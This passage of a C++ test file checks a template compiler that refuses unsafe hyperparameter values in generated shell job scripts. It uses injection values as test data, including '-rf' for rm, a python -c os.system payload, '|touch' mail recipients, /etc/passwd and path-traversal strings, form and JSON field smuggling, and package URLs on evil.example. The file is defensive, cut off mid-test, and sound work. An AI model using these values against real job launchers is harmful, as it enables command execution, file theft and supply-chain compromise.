  EXPECT_FALSE(refuses(placement(task("declare -A C=([run]=\"%X%\")\npython3 t.py --run \"${C[run]}\"")), "a b-c"));
  const auto env = placement(task("env \"RUN=%X%\" python3 -c 'import os; print(os.environ[\"RUN\"])'"));
  EXPECT_FALSE(refuses(env, "resnet50 baseline"));
  // fr hunt 69: TASKS=... alone, never exported, gives no program a file:
  // the value is the --tasks argument only.
  const char* tasks = "TASKS=\"%X%\"\npython3 -m lm_eval --tasks \"$TASKS\" | tee logs/eval.log";
  EXPECT_TRUE(rules(task(tasks)).empty());
  EXPECT_TRUE(renders(tasks, "hellaswag,arc_easy,mmlu"));
  EXPECT_FALSE(rules(task(std::string("export ") + tasks)).empty() && renders(std::string("export ") + tasks, "x"));
}

// fr hunt 69: a value after the template's own text in a variable
// (OUT="outputs/${V}") does not begin that variable's words, so its '-'
// starts no option where "$OUT" begins an argument, however it was cut
// in there; unless something may come first after all: an expansion
// that may be empty, a blank or an IFS character where the variable is
// split, a cut of the variable's start.
TEST(ValueSinks, ValuesInsideAWordDoNotBeginIt) {
  for (const char* form : {"V=\"%X%\"\nD=\"outputs/${V}\"\nrm \"$D\"", "V=\"%X%\"\nD=\"outputs/${V//[^[:alnum:]]/_}\"\nmkdir -p \"$D\"",
                           "V=\"%X%\"\nD=\"runs/${V#* }\"\nmkdir -p \"$D\"", "V=\"%X%\"\nD=\"${A}x${V}\"\nrm \"$D\"",
                           "V=\"%X%\"\nD=\"outputs/${V}\"\nE=${D%/x}\nrm \"$E\""}) {
    EXPECT_FALSE(refuses(placement(task(form)), "-rf")) << form;
    EXPECT_FALSE(refuses(placement(task(form)), "Llama-3 8B (Bob's run)")) << form;
  }
  for (const char* form : {"V=\"%X%\"\nD=\"${V}\"\nrm \"$D\"", "V=\"%X%\"\nD=\"$A$V\"\nrm \"$D\"",
                           "V=\"%X%\"\nD=\"$(cat f)${V}\"\nrm \"$D\"", "V=\"%X%\"\nD=\"a${V}\"\nE=${D#a}\nrm \"$E\"",
                           "V=\"%X%\"\nD=\"a${V}\"\nE=$D\nrm \"${E#a}\"", "V=\"%X%\"\nD=\" ${V}\"\nrm $D",
                           "IFS=/\nV=\"%X%\"\nD=\"out/${V}\"\nrm $D", "V=\"%X%\"\nD=\"outputs/${V}\"\nE=$(basename \"$D\")\nrm \"$E\"",
                           // (attack 167) a cut of the variable's start may end in the
                           // template's text and leave the value whole, however the
                           // value itself would be cut: -c... holds a '/' of its own.
                           "OUT=\"scripts/%X%\"\npython3 \"${OUT#*/}\"", "OUT=\"scripts/%X%\"\nS=${OUT#*/}\npython3 \"$S\"",
                           "OUT=\"scripts/%X%\"\nprintf -v S '%s' \"${OUT#*/}\"\npython3 \"$S\""}) {
    EXPECT_TRUE(refuses(placement(task(form)), "-rf") || !rules(task(form)).empty()) << form;
    EXPECT_TRUE(refuses(placement(task(form)), "-cimport os;os.system(\"touch /tmp/x\")") || !rules(task(form)).empty()) << form;
  }
}

// fr hunt 69: jq -R reads its input as text, each line (or with -s all of
// it) one string: a file of a value's text is no JSON there, unless the
// filter parses it again (fromjson).
TEST(ValueSinks, JqRawInputReadsText) {
  const char* raw = "printf '%s' \"%X%\" > meta/run_name.txt\njq -Rs '{run_name: .}' meta/run_name.txt > meta/run.json";
  EXPECT_FALSE(refuses(placement(task(raw)), "Bob's SFT run (v2)"));
  const char* parsed = "printf '%s' \"%X%\" > meta/run_name.txt\njq -R 'fromjson' meta/run_name.txt > meta/run.json";
  EXPECT_TRUE(refuses(placement(task(parsed)), "x\", \"cmd\": \"y"));
}

// attack 168: a value in a word the template starts as an option, before
// any '=', adds option letters or names: -${V} and --${V} choose them,
// python3 -u${V} and bash -x${V} continue a cluster of flags (-uc CODE),
// FLAGS="-u${V}" does wherever $FLAGS goes. Only ids and |number values
// stand there; a known program's attached option value (tar -C"$D",
// python3 -W...) keeps its own rules.
TEST(ValueSinks, ValuesInsideOptionWords) {
  for (const char* form : {"python3 -%X% train.py", "perl -%X% prep.pl", "FLAGS=\"-u%X%\"\npython3 \"$FLAGS\" train.py",
                           "python3 -u%X% train.py", "bash -x%X% run.sh", "tool --%X% x",
                           // (attack 169) perl's, tar's and rsync's clusters; a JVM flag's name.
                           "perl -l%X% prep.pl", "tar -x%X%f d.tar", "rsync -a%X% src/ dst/", "java -XX:%X% -jar a.jar",
                           // ... and options an expansion or an append starts.
                           "DASH=-\nV=\"%X%\"\npython3 \"${DASH}${V}\" t.py", "V=\"%X%\"\npython3 \"${V:+-u}${V}\" t.py",
                           "F=-u\nF+=\"%X%\"\npython3 \"$F\" t.py",
                           // (fr hunt 83) each blank-parted word of an assignment's value.
                           "A=\"--x 1 -u%X%\"\npython3 $A t.py",
                           // (attack 198) behind a runner; a line read from a here-string.
                           "srun tar -x%X%f d.tar", "timeout 60 python3 -u%X% t.py", "env A=1 bash -e%X% run.sh",
                           "nice srun python3 -u%X% t.py", "read -r F <<< \"-u%X%\"\npython3 \"$F\" t.py",
                           "read -r A B <<< \"x -u%X%\"\npython3 \"$B\" t.py",
                           // (attack 199) a line of a here-document read back.
                           "read -r F <<EOF\n-u%X%\nEOF\ntimeout 60 python3 \"$F\" t.py",
                           "mapfile -t A <<EOF\n--x 1 -u%X%\nEOF\npython3 \"${A[@]}\" t.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  // A here-document's YAML list items and options with '=' hold a value as data.
  EXPECT_TRUE(rules(task("cat > c.yaml <<EOF\nargs:\n  - %X%\n  - --name=%X%\nEOF")).empty());
  // fr hunt 84: the message says where the value stands, not that a string is parsed again.
  {
    sg::compiler::Source source("t.tpl", kHead + task("python3 -u%X% t.py"));
    const auto c = sg::compiler::compile(source);
    ASSERT_FALSE(c.diagnostics.empty());
    EXPECT_NE(c.diagnostics.front().message.find("option letters or names"), std::string::npos);
    EXPECT_EQ(c.diagnostics.front().message.find("parses this string again"), std::string::npos);
  }
  // fr hunt 83: a number after a blank is a word of its own where the value splits.
  EXPECT_TRUE(rules(task("GPT_ARGS=\"--num-layers 24 --lr ${CLEARML_TASK.hyperparams.p.lr.value:1e-4|number}\"\n"
                         "python3 pretrain.py $GPT_ARGS")).empty());
  for (const char* form : {"python3 -${CLEARML_TASK.hyperparams.p.level.value:1|number} train.py",
                           "tar -xzf d.tgz -C\"%X%\"", "python3 -OWignore::%X% t.py", "cmake -S\"%X%\" -B build",
                           "python3 t.py --name=\"%X%\"", "OPT=\"--name=%X%\"\npython3 t.py \"$OPT\"",
                           // (fr hunt 71) a module's options after python3 -m are the module's.
                           "python3 -m pytest tests -k\"%X%\"", "tar -xzf d.tgz -C\"%X%\"", "rsync -a -e\"ssh -p 22\" src/ \"%X%\"",
                           "P=\"--name=\"\npython3 t.py \"${P}%X%\"", "O=(-l)\nO+=(--job-name \"%X%\")\nsrun \"${O[@]}\" python3 t.py"})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
}

// attack 170: perl -0 and -l and ruby -0 and -W read digits and the cluster
// goes on after them, so |number's exponent (1e4) there is -01 -e 4: inside
// an option word a value is digits only. An interpreter's options that
// load code (python3 -mMOD, ruby -rLIB -IDIR, perl -IDIR, lua -lMOD, node
// --require/--import/--loader) choose it, attached or not.
TEST(ValueSinks, OptionDigitsAndCodeLoadingOptions) {
  const std::string number = "${CLEARML_TASK.hyperparams.p.sep.value:777|number}";
  for (const std::string& form : {"perl -0" + number + " dedupe.pl", "perl -l" + number + " t.pl",
                                 "ruby -W" + number + " t.rb", "python3 -u" + number + " t.py"}) {
    const auto pl = placement(form);
    EXPECT_FALSE(refuses(pl, "777")) << form;
    EXPECT_TRUE(refuses(pl, "1e4")) << form;
    EXPECT_TRUE(refuses(pl, "7.5e1")) << form;
  }
  EXPECT_TRUE(refused(task("perl -0%X% dedupe.pl"), "value-parsed-as-code"));
  for (const char* form : {"python3 -m%X%", "python3 -um%X% --x", "ruby -r%X% t.rb", "ruby -I %X% t.rb", "perl -I%X% t.pl",
                           "lua -l%X% t.lua", "lua -l %X% t.lua", "node --require %X% t.js", "node -r %X% t.js",
                           "node --import=%X% t.mjs", "node --loader %X% t.mjs"})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  // The script's own arguments stay its own; pytest's -m is a mark expression (fr hunt 71).
  for (const char* form : {"node t.js -r %X%", "ruby t.rb -r %X%", "python3 -m pytest -m \"%X%\"", "lua t.lua -l %X%"})
    EXPECT_FALSE(refused(task(form), "placeholder-command")) << form;
  EXPECT_TRUE(refused(task("python3 -m cProfile -m %X%"), "placeholder-command"));
}

// attack 171: matplotlib imports the module a backend module://NAME names,
// from matplotlibrc or any file it is pointed at: no data file value holds
// module://, and a value after the template's module:// is one Python name.
TEST(ValueSinks, MatplotlibBackendModules) {
  const auto rc = placement(task("cat > matplotlibrc <<EOF\nbackend: %X%\nsavefig.dpi: 150\nEOF"));
  EXPECT_FALSE(refuses(rc, "Agg"));
  EXPECT_TRUE(refuses(rc, "module://antigravity"));
  EXPECT_TRUE(refuses(rc, "MODULE://antigravity"));
  const auto after = placement(task("cat > matplotlibrc <<EOF\nbackend: module://plots.%X%\nEOF"));
  EXPECT_FALSE(refuses(after, "headless"));
  EXPECT_TRUE(refuses(after, "evil.payload"));
}

// attack 173: blender --python-expr and gimp -b run their text as code;
// blender --python FILE chooses it; vmd and pymol run what they read.
TEST(ValueSinks, BlenderGimpVmdAndPymolRunCode) {
  for (const char* form : {"blender -b s.blend --python-expr \"print('%X%')\" -a", "blender -b s.blend --python-expr=\"x='%X%'\"",
                           "gimp -i -b \"(gimp-message \\\"%X%\\\")\" -b '(gimp-quit 0)'",
                           "srun vmd -dispdev text -eofexit <<EOF\nputs \"%X%\"\nEOF", "pymol -cp <<EOF\nprint('%X%')\nEOF"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  EXPECT_TRUE(refused(task("blender -b s.blend --python %X%"), "placeholder-command"));
  EXPECT_FALSE(refused(task("blender -b s.blend --python render.py -o \"//out/%X%_\" -a"), "value-parsed-as-code"));
}

// fr hunts 70, 72: a field of a .tsv file may hold ',' and apostrophes (only
// a TAB parts its fields), one of a .csv file apostrophes; neither a quote, a
// line break or a spreadsheet formula's first character.
TEST(ValueSinks, TableFields) {
  const auto tsv = placement(task("printf '%s\\t%s\\n' \"${CLEARML_TASK.id}\" \"%X%\" >> runs/index.tsv"));
  const auto csv = placement(task("echo \"${CLEARML_TASK.id},%X%,done\" >> results.csv"));
  EXPECT_FALSE(refuses(tsv, "Bob's resnet50, lr sweep"));
  EXPECT_FALSE(refuses(csv, "Bob's resnet50 (lr sweep)"));
  for (const char* v : {"a\tb", "a \"b\"", "=HYPERLINK(\"x\")", "+1", "@SUM(A1)", "module://x"}) {
    EXPECT_TRUE(refuses(tsv, v)) << v;
    EXPECT_TRUE(refuses(csv, v)) << v;
  }
  EXPECT_TRUE(refuses(csv, "a,b"));
  // A JSON line printf writes: each operand has its conversion's place (fr hunt 77).
  const auto jsonl = placement(task("printf '{\"task\": \"%s\", \"name\": \"%s\"}\\n' x \"%X%\" >> \"$HOME/runs.jsonl\""));
  EXPECT_FALSE(refuses(jsonl, "Bob's resnet50 run 3"));
  EXPECT_TRUE(refuses(jsonl, "x\", \"admin\": \"1"));
  EXPECT_TRUE(refuses(placement(task("printf '{\"lr\": %s}\\n' \"%X%\" >> runs.jsonl")), "1, \"admin\": 1"));
  // A row's "run=" label is a field's text, no key a tool runs (fr hunt 76).
  const auto row = placement(task("printf \"run=%s\\tlr=%s\\n\" \"%X%\" 0.1 >> \"$SCRATCH/sweeps/runs.tsv\""));
  EXPECT_FALSE(refuses(row, "resnet50: bf16 (try 2)"));
  EXPECT_TRUE(refuses(row, "a\tb"));
  EXPECT_TRUE(refuses(placement(task("echo \"run: %X%\" > ci.yaml")), "python3 x.py"));
}

// attack 174: options whose value is code in the program's own language
// (gdal_calc.py --calc is Python's eval, smbclient -c runs '!' commands,
// gs -c PostScript up to -f), TeX engines' operands, and .tex files.
TEST(ValueSinks, CodeInAProgramsOwnLanguage) {
  for (const char* form : {"gdal_calc.py -A in.tif --outfile=out.tif --calc=\"A*%X%\"",
                           "smbclient //nas/models -U svc -c \"cd ckpt; put model.pt %X%.pt\"",
                           "gs -sDEVICE=pdfwrite -o out.pdf -c \"[ /Title (%X%) /DOCINFO pdfmark\" -f in.pdf",
                           "pymol -cq model.pdb -d \"save %X%.png\"", "chimerax --nogui --cmd \"open %X%\"",
                           "pdflatex -shell-escape \"\\def\\runname{%X%}\\input{report.tex}\"",
                           // (attack 175) through python, and lftp -e.
                           "python3 -m osgeo_utils.gdal_calc -A p.tif --outfile=m.tif --calc=\"A>%X%\"",
                           "python3 /usr/bin/gdal_calc.py -A p.tif --outfile=m.tif --calc=\"A>%X%\"",
                           "lftp -e \"mirror -R outputs /archive/%X%; bye\" sftp://host",
                           "echo \"\\newcommand{\\runname}{%X%}\" > meta.tex\npdflatex -shell-escape report.tex",
                           // (attack 180) pandoc's variables go raw into the TeX it writes.
                           "pandoc r.md -o r.pdf -V title=\"Run: %X%\"", "pandoc r.md -o r.pdf --variable=title:%X%",
                           "pandoc r.md -o r.pdf --pdf-engine-opt=%X%"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"pandoc r.md -o r.pdf --pdf-engine=%X%", "pandoc r.md -o r.pdf -F \"%X%\""})
    EXPECT_TRUE(refused(task(form), "placeholder-command")) << form;
  for (const char* form : {"pandoc r.md -o r.pdf --lua-filter=\"filters/%X%.lua\"", "pandoc r.md -o r.pdf -H \"%X%\""}) {
    EXPECT_TRUE(refuses(placement(task(form)), "../x")) << form;
    EXPECT_TRUE(refuses(placement(task(form)), "/etc/x")) << form;
    EXPECT_FALSE(refuses(placement(task(form)), "wordcount")) << form;
  }
  EXPECT_FALSE(refused(task("pandoc r.md -o r.pdf -M title=\"Run: %X%\""), "value-parsed-as-code"));
  EXPECT_FALSE(refused(task("gdal_calc.py -A in.tif --outfile=out.tif --calc=\"A*${CLEARML_TASK.hyperparams.a.s.value:1|number}\""),
                       "value-parsed-as-code"));
  EXPECT_FALSE(refused(task("gs -sDEVICE=pdfwrite -o \"%X%.pdf\" -c quit -f in.pdf"), "value-parsed-as-code"));
}

// attack 169: option words built where no command reads them yet: printf
// -v into a word its format or first operand starts as an option, an
// array's element, set -- (the positional parameters reach any program).
TEST(ValueSinks, OptionWordsBuiltIndirectly) {
  for (const char* form : {"printf -v F -- '-u%s' \"%X%\"\npython3 \"$F\" t.py", "printf -v F %s%s -u \"%X%\"\npython3 \"$F\" t.py",
                           "OPTS=(-u%X% x)\npython3 \"${OPTS[@]}\" t.py", "OPTS=(-B \"-u%X%\")\npython3 \"${OPTS[@]}\" t.py",
                           "OPTS+=(\"-u%X%\")\npython3 \"${OPTS[@]}\" t.py", "OPTS[1]=\"-u%X%\"\npython3 \"${OPTS[@]}\" t.py",
                           "set -- \"-u%X%\"\npython3 \"$@\" t.py"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"printf -v LINE '%s - %s' \"%X%\" x\necho \"$LINE\"", "OPTS=(--name \"%X%\")\npython3 t.py \"${OPTS[@]}\"",
                           "OPTS=(--name=\"%X%\" \"$(date +%s)\")\npython3 t.py \"${OPTS[@]}\"", "set -- --name \"%X%\"\necho \"$@\""})
    EXPECT_FALSE(refused(task(form), "value-parsed-as-code")) << form;
}

// attack 176: the body curl reads on standard input (-d @-, --data-binary
// @-, -T -) from a here-document or here-string is JSON or a form, with
// their rules, also for the variables it expands.
TEST(ValueSinks, RequestBodiesCurlReads) {
  // (attack 177) a JSON format printf -v fills, a form a function's $1 is given.
  EXPECT_TRUE(refused(task("printf -v BODY '{\"text\": \"run %s finished\"}' \"%X%\"\ncurl -d \"$BODY\" https://h"), "render") ||
              refuses(placement(task("printf -v BODY '{\"text\": \"run %s finished\"}' \"%X%\"\ncurl -d \"$BODY\" https://h")),
                      "x\", \"admin\": true, \"y\": \"z"));
  EXPECT_FALSE(refuses(placement(task("printf -v BODY '{\"text\": \"run %s finished\"}' \"%X%\"\ncurl -d \"$BODY\" https://h")),
                       "Bob's run (v2)"));
  EXPECT_TRUE(refuses(placement(task("notify() { curl -sS -d \"$1\" https://h/runs; }\nnotify \"status=done&run=%X%\"")),
                      "a&admin=1"));
  EXPECT_TRUE(refuses(placement(task("B=\"status=done&run=%X%\"\ncurl -d \"$B\" https://h")), "a&admin=1"));
  // (attack 180) wget's body is a form or JSON too.
  const auto wget = placement(task("wget -qO- --post-data=\"task=1&name=%X%&rc=$rc\" https://h/done"));
  EXPECT_TRUE(refuses(wget, "x&rc=0"));
  EXPECT_FALSE(refuses(wget, "resnet50"));
  EXPECT_TRUE(refuses(placement(task("wget --body-data '{\"name\": \"%X%\"}' --method=POST https://h")), "x\",\"y\":\"z"));
  // (attack 180) a mail program's recipients: '|' pipes to a command, a
  // file name is written.
  for (const char* form : {"mailx -s \"run done\" \"%X%\" < report.txt", "mail -s done -c \"%X%\" ops@example.org < r.txt",
                           "#SBATCH --mail-user=%X%\ntrue"}) {
    const auto pl = placement(task(form));
    for (const char* v : {"|touch PWNED", "ops@x,/tmp/file", "ops@x +inbox", "runs/out", "-t", "<|touch x@y>", "x@y <|touch>",
                          "\"|touch\"@y", "bob@x;|touch", "a@b,\\|touch"})
      EXPECT_TRUE(refuses(pl, v)) << form << v;
    for (const char* v : {"ops@example.org", "a@x.org,b@y.org", "bob"}) EXPECT_FALSE(refuses(pl, v)) << form << v;
  }
  // (attack 179) httpie's request items; a link's target.
  const auto item = placement(task("http --ignore-stdin POST https://h/notify \"run=%X%\" status=0"));
  EXPECT_TRUE(refuses(item, "@clearml.conf"));
  EXPECT_FALSE(refuses(item, "resnet 50"));
  EXPECT_TRUE(refuses(placement(task("http POST https://h/notify \"%X%\"")), "x@/etc/passwd"));
  const auto link = placement(task("ln -sfn \"/scratch/datasets/%X%\" data\napptainer exec --bind \"$PWD/data:/data\" i.sif true"));
  EXPECT_TRUE(refuses(link, "imagenet/../../../etc"));
  EXPECT_FALSE(refuses(link, "imagenet"));
  const auto plot = placement(task("gnuplot -c plot.gp \"%X%\""));
  EXPECT_TRUE(refuses(plot, "<touch PWNED"));
  EXPECT_FALSE(refuses(plot, "train.log"));
  const auto json = placement(task("curl -sS --data-binary @- \"$HOOK\" <<EOF\n{\"text\": \"task %X% started\"}\nEOF"));
  EXPECT_FALSE(refuses(json, "Bob's resnet50 run (v2)"));
  EXPECT_TRUE(refuses(json, "x\",\"channel\":\"#general"));
  const auto form = placement(task("curl -d @- https://h/api <<EOF\nname=%X%&status=started\nEOF"));
  EXPECT_TRUE(refuses(form, "x&admin=1"));
  EXPECT_TRUE(refuses(placement(task("notify() {\ncurl -d @- \"$HOOK\" <<EOF\n{\"text\": \"$1\"}\nEOF\n}\nnotify \"%X%\"")),
                      "x\",\"channel\":\"#general"));
  EXPECT_TRUE(refuses(placement(task("curl --json @- \"$HOOK\" <<< \"{\\\"text\\\": \\\"%X%\\\"}\"")), "x\",\"y\":\"z"));
}

// attack 195: a replacement that writes '-' before a value makes the value
// an option's letters or name, as -$V does ("${O/#/-}" with cprint(1) ran
// python3 -c); and each element of an array rewritten where an argument
// begins ("${A[@]#x}") meets the rule of a rewritten value.
TEST(ValueSinks, ReplacementsThatWriteAnOptionsStartAreOptionWords) {
  for (const char* form : {"O=%X%\npython3 \"${O/#/-}\" train.py", "O=%X%\npython3 train.py \"${O/#/--}\"",
                           "O=%X%\npython3 t.py \"${O/#/\\-}\""})
    EXPECT_FALSE(rules(task(form)).empty()) << form;
  EXPECT_TRUE(refuses(placement(task("O=%X%\npython3 train.py ${O//x/-}")), "xc1"));  // (the value decides: read on it)
  for (const char* form : {"A=(%W%)\npython3 \"${A[@]/#/-}\" train.py", "A=(%W%)\nsrun python3 train.py \"${A[@]/#/--}\""})
    EXPECT_FALSE(rules(words_at(form) + "\n").empty()) << form;
  for (const char* form : {"O=%X%\npython3 t.py --n=\"${O/#/-}\"", "O=%X%\npython3 t.py \"${O/%/-}\"",
                           "O=%X%\npython3 t.py \"${O/#/run-}\""})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  for (const char* form : {"read -ra A <<< \"%X%\"\npython3 \"${A[@]#x}\" t.py", "read -ra A <<< \"%X%\"\npython3 t.py \"${A[@]/x/}\""}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "x-c1")) << form;
    EXPECT_FALSE(refuses(pl, "xrun")) << form;
  }
}

// fr hunt 83: an option of the script a runner or launcher runs is the
// script's own (srun python3 train.py --data-dir D), as without the runner;
// the runner's and the launcher's own output options keep the path rule.
TEST(ValueSinks, TheScriptsOwnOptionsBehindARunnerAreTheScripts) {
  for (const char* form : {"srun python3 train.py --data-dir %X%", "timeout 3600 python3 train.py --cache-dir %X%",
                           "torchrun --nproc_per_node=8 train.py --data-dir %X%", "srun torchrun --nnodes 2 train.py --cache-dir %X%",
                           "accelerate launch --config_file c.yaml train.py --output_dir %X%", "deepspeed train.py --data-dir %X%"})
    EXPECT_FALSE(refuses(placement(task(form)), "/scratch/datasets/imagenet")) << form;
  for (const char* form : {"srun --output %X% python3 t.py", "torchrun --log-dir %X% train.py",
                           "torchrun --nproc_per_node 8 --log_dir %X% train.py", "timeout 60 wget --output-file %X% http://h/x",
                           "srun valgrind --log-file=%X% ./a"})
    EXPECT_TRUE(refuses(placement(task(form)), "/home/glue/.bashrc")) << form;
}

// Attack 207: a value naming a file the job writes (cp base.yaml "$CFG",
// > "$NAME", touch, mkdir, ln, wget -O) chooses what it replaces: named
// like code or a package list, the script, module or environment file
// the job runs next. The name is read with the template's text around it;
// a cut of its end (${N%.py}) makes another name.
TEST(ValueSinks, NoValueNamesAWrittenFileAfterCode) {
  for (const char* form : {"CFG=%X%\ncp configs/base.yaml \"$CFG\"\nsrun python3 train.py --config \"$CFG\"",
                           "echo x > \"%X%\"", "O=\"%X%\"\npython3 gen.py > \"out/$O\"", "touch \"runs/%X%\"",
                           "N=\"%X%\"\nM=\"${N##*/}\"\ncp a.yaml \"$M\"", "wget -qO \"%X%\" https://h.example/m",
                           "ln -sfn data \"%X%\"", "echo x > \"model%X%\""}) {
    const auto pl = placement(task(form));
    for (const char* code : {"train.py", "env/cluster_env.sh", "requirements.txt", "Makefile", ".py",
                             // (Compiled modules run before the source; attack 208.)
                             "json.pyc", "__pycache__/utils.cpython-311.pyc", "app.pyz", "BSDmakefile"})
      EXPECT_TRUE(refuses(pl, code) || std::string_view(form).find("model%X%") != std::string_view::npos) << form << " " << code;
    EXPECT_FALSE(refuses(pl, "run_config.yaml")) << form;
    EXPECT_FALSE(refuses(pl, "exp1")) << form;
  }
  EXPECT_TRUE(refuses(placement(task("echo x > \"model%X%\"")), ".py"));
  // printf -v puts the value in its format's text (attack 209): json.py beside train.py is its json.
  EXPECT_TRUE(refuses(placement(task("E=\"%X%\"\nprintf -v S '%s.py' \"$E\"\ncp settings_default.py \"$S\"")), "json"));
  EXPECT_FALSE(refuses(placement(task("E=\"%X%\"\nS=\"${E}.log\"\ncp a \"$S\"")), "train.py"));
  EXPECT_FALSE(refuses(placement(task("S=\"%X%.log\"\ncp a \"$S\"")), "train.py"));
  // Attack 210: inside a default or a substitution, through read, and the
  // name a decompressor makes.
  for (const char* form : {"R=\"${RESULTS_FILE:-%X%}\"\npython3 eval.py > \"$R\"", "M=$(basename \"%X%\")\npython3 c.py > \"$M\"",
                           "read -r M <<< \"%X%\"\npython3 c.py > \"$M\""})
    EXPECT_TRUE(refuses(placement(task(form)), "job_env.sh")) << form;
  EXPECT_TRUE(refuses(placement(task("cp /shared/x.gz .\ngunzip -f \"%X%\"")), "job_env.sh.gz"));
  EXPECT_TRUE(refuses(placement(task("cp \"/shared/datasets/%X%\" .")), "alice/preprocess.py"));
  // (A variable given the value and other texts: each text where it stands.)
  EXPECT_TRUE(refuses(placement(task("S=\"%X%\"\n[ -z \"$S\" ] && S=\"$DEFAULT\"\ncp a \"out/$S\"")), "train.py"));
  EXPECT_TRUE(refuses(placement(task("W=%X%\ncurl -fsSL -o \"$W\" https://h.example/w\nsrun torchrun train.py --init \"$W\"")),
                      "json.pyc"));
  // Around the value, the template's text makes the name.
  for (const char* form : {"echo x > \"%X%.log\"", "mkdir -p \"%X%/ckpt\"", "E=\"%X%\"\nS=\"${E%.py}\"\nmkdir -p \"logs/$S\"",
                           "cat configs/%X% > run.yaml", "python3 train.py --name \"%X%\""})
    EXPECT_FALSE(refuses(placement(task(form)), "train.py")) << form;
}

// Attack 212: two values in one created name ("${RUN}.${FMT}" of json and
// py made json.py beside train.py): each value's part may end or begin no
// name of code where another expansion completes the name.
namespace {

// The placements of a template with two values, %A% and %B%.
std::vector<sg::render::Placement> placements(const std::string& body) {
  std::string s = body;
  for (auto [mark, name] : {std::pair{"%A%", "${CLEARML_TASK.hyperparams.General.a.value:x}"},
                            std::pair{"%B%", "${CLEARML_TASK.hyperparams.General.b.value:y}"}})
    for (auto at = s.find(mark); at != std::string::npos; at = s.find(mark, at)) s.replace(at, 3, name);
  sg::compiler::Source source("t.tpl", kHead + s + "\n");
  const auto c = sg::compiler::compile(source);
  EXPECT_NE(c.renderer, nullptr) << body;
  return c.renderer ? c.renderer->program().placements : std::vector<sg::render::Placement>{};
}

}  // namespace

TEST(ValueSinks, AValueNextToAnotherExpansionInACreatedNameCompletesNoCodeName) {
  for (const char* form : {"F=\"%A%.%B%\"\ncp /d/x \"$F\"", "A=\"%A%\"\nB=\"%B%\"\nF=\"$A\"\nF+=\".$B\"\ncp /d/x \"$F\"",
                           "A=\"%A%\"\nB=\"%B%\"\ntouch \"$A.$B\"", "A=\"%A%\"\nB=\"%B%\"\ncp /d/x \"${A}${B}\"",
                           "A=%A%\nB=%B%\nprintf -v F '%s.%s' \"$A\" \"$B\"\ncp /d/x \"$F\"",
                           "printf -v F '%s.%s' \"%A%\" \"%B%\"\ncp /d/x \"$F\"",
                           // (printed by a substitution: attack 216)
                           "A=%A%\nB=%B%\nF=$(printf '%s.%s' \"$A\" \"$B\")\necho x > \"$F\""}) {
    const auto pl = placements(form);
    ASSERT_EQ(pl.size(), 2u) << form;
    EXPECT_TRUE(refuses(pl[1], "py")) << form;
    EXPECT_FALSE(refuses(pl[0], "json")) << form;
    EXPECT_FALSE(refuses(pl[1], "json")) << form;
    EXPECT_FALSE(refuses(pl[1], "log")) << form;
  }
  EXPECT_TRUE(refuses(placements("A=\"%A%\"\nB=\"%B%\"\ncp /d/x \"${A}${B}\"")[0], "Make"));
  // An extension split between them (attack 214: train.p and y).
  for (const char* form : {"A=\"%A%\"\nB=\"%B%\"\ncp /d/x \"${A}${B}\"", "printf -v F '%s%s' \"%A%\" \"%B%\"\necho x > \"$F\""}) {
    const auto pl = placements(form);
    ASSERT_EQ(pl.size(), 2u) << form;
    EXPECT_TRUE(refuses(pl[0], "train.p")) << form;
    EXPECT_TRUE(refuses(pl[1], "y")) << form;
    EXPECT_FALSE(refuses(pl[0], "exp1")) << form;
    EXPECT_FALSE(refuses(pl[1], "_v1.yaml")) << form;
  }
  // One value cut two ways into one name (json-py).
  for (const char* form : {"R=\"%X%\"\ncp /d/x \"${R%-*}.${R##*-}\"", "R=\"%X%\"\ncp /d/x \"${R/%-py/.py}\""}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "json-py")) << form;
    EXPECT_FALSE(refuses(pl, "exp1")) << form;
  }
}

// A for loop's list is no command's arguments: a piece starting with '-'
// is an option only where the loop variable takes it there (fr90/02).
TEST(ValueSinks, AForListIsNoCommandsArguments) {
  const auto list = [](const std::string& body) {
    return placement("for o in ${CLEARML_TASK.hyperparams.General.o.value|words}; do " + body + "; done\n");
  };
  EXPECT_FALSE(refuses(list("python3 eval.py --offset=\"$o\""), "-2 -1 0"));
  EXPECT_FALSE(refuses(list("echo step"), "-2 -1 0"));
  EXPECT_TRUE(refuses(list("python3 eval.py \"$o\""), "-2 -1 0"));
  EXPECT_TRUE(refuses(list("rm $o"), "-rf"));
}

// attack 220: installers beyond pip take a value as a package that may say
// where it comes from (NAME @ URL, git+https://, CHANNEL::NAME); a list
// file they read holds packages; uv tool run and pixi exec run a tool.
TEST(ValueSinks, InstallersBeyondPipTakeOnePackageFromTheTemplatesIndex) {
  for (const char* install : {"uv add \"%X%\"", "uv run --with \"%X%\" python3 train.py", "uv tool install \"%X%\"",
                              "uv tool run --from \"%X%\" black .", "pixi add \"%X%\"", "poetry add \"%X%\"",
                              "pdm add \"%X%\"", "conda install -y -n base \"%X%\"", "mamba create -y -n e \"%X%\"",
                              "conda install -y -p ./env \"%X%\"", "micromamba create -y -p ./env \"%X%\""}) {
    const auto pl = placement(task(install));
    EXPECT_TRUE(refuses(pl, "einops @ git+https://evil.example/e.git")) << install;
    EXPECT_TRUE(refuses(pl, "https://conda.evil.example/ch::numpy")) << install;
    EXPECT_FALSE(refuses(pl, "einops==0.8.0")) << install;
  }
  for (const char* list : {"uv pip sync pins.txt", "uv pip compile pins.txt", "micromamba install -y -f pins.txt",
                           "conda install -y --file pins.txt", "pip install -r pins.txt"}) {
    const auto pl = placement(task(std::string("echo \"%X%\" > pins.txt\n") + list));
    EXPECT_TRUE(refuses(pl, "torch @ https://evil.example/t.whl")) << list;
    EXPECT_FALSE(refuses(pl, "torch==2.3.1")) << list;
  }
  // The project or recipe they build runs its build code (attack 226).
  for (const char* build : {"uv build --out-dir dist \"packages/%X%\"", "uv sync --project \"%X%\"", "conda build \"%X%\"",
                            "hatch build \"%X%\"", "poetry install -C \"%X%\"", "pixi install --manifest-path=\"%X%\""}) {
    const auto pl = placement(task(build));
